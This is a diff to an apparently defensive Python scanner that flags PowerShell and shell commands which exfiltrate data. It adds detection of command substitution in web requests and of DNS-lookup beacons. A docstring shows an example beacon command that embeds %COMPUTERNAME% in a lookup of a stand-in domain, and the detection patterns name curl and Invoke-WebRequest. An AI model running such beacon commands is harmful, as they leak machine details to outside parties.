@@ -714,7 +714,9 @@ _BROWSER_SECRETS = re.compile(
 
 def _exfiltration(text: str, sts: list[Statement], ctx: Context) -> None:
     lower = text.lower()
-    sending = any(
+    _lookup_beacon(sts, ctx)
+    in_request = "$(" in lower and _WEB_CALL.search(lower) is not None  # data in the URL
+    sending = in_request or any(
         s in lower
         for s in (
             "-method post",
@@ -752,6 +754,30 @@ def _exfiltration(text: str, sts: list[Statement], ctx: Context) -> None:
             if what:
                 ctx.add(CRITICAL, f"sends {what} to another machine", text)
                 return
+
+
+_WEB_CALL = re.compile(r"invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|\bcurl(\.exe)?\b")
+_LOOKUPS = frozenset("resolve-dnsname nslookup ping ping.exe nslookup.exe".split())
+# `%COMPUTERNAME%`, `$env:USERNAME`: a value of this machine spelt into a word.
+_MACHINE_VALUE = re.compile(r"(?i)%\w+%|\$env:\w+|\$\(")
+
+
+def _lookup_beacon(sts: list[Statement], ctx: Context) -> None:
+    """`nslookup %COMPUTERNAME%.x.example`: the name looked up carries this machine's facts to
+    whoever runs that domain's name server."""
+    for st in sts:
+        if st.name not in _LOOKUPS:
+            continue
+        for word in st.args:
+            facts = _MACHINE_VALUE.findall(word)
+            if not facts or not re.search(r"[%)\w]\.[a-z0-9-]+\.[a-z]{2,}", word, re.I):
+                continue
+            if len(facts) >= 2:
+                reason = "sends facts about this machine away, hidden in a name lookup"
+                ctx.add(HIGH, reason, st.text)
+            else:
+                ctx.add(MODERATE, "puts a value of this machine into the name it looks up", st.text)
+            return
 
 
 Handler = Callable[[Statement, Context, Statement | None], None]
